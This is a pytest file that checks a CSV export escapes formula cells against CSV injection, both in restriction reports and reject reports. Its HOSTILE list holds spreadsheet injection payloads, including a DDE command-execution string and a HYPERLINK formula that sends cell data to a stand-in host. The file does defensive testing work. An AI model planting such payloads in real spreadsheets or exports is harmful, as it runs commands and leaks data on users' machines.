"""CSV written for spreadsheets escapes formula cells (issue 11 item 5, OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from api.cli.output import write_csv
from graph.csv_cells import spreadsheet_safe
from loaders.bundle import Reject, write_rejects
from queries.restrictions import COLUMNS, Row

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?q="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_quoted(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Acme", "上海瀚宇商贸", "", "1.5", "a=b", "S0001"])
def test_ordinary_cells_are_kept(value: str) -> None:
    assert spreadsheet_safe(value) == value


def test_restriction_csv_escapes_names() -> None:
    rows: list[Row] = []
    for name in HOSTILE:
        row: Row = dict.fromkeys(COLUMNS, "x")
        row.update(entity_name=name, disputed=False)
        rows.append(row)
    out = io.StringIO(newline="")
    assert write_csv(rows, out, COLUMNS) == len(HOSTILE)
    read = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [r["entity_name"] for r in read] == ["'" + name for name in HOSTILE]
    assert {r["disputed"] for r in read} == {"false"}


def test_reject_report_escapes_values(tmp_path: Path) -> None:
    target = tmp_path / "rejects.csv"
    write_rejects(
        [Reject("companies.csv", 2, "name", "=bad reason", value) for value in HOSTILE], target
    )
    with target.open(encoding="utf-8", newline="") as handle:
        read = list(csv.DictReader(handle))
    assert [r["value"] for r in read] == ["'" + value for value in HOSTILE]
    assert {r["reason"] for r in read} == {"'=bad reason"}
    assert {r["line"] for r in read} == {"2"}
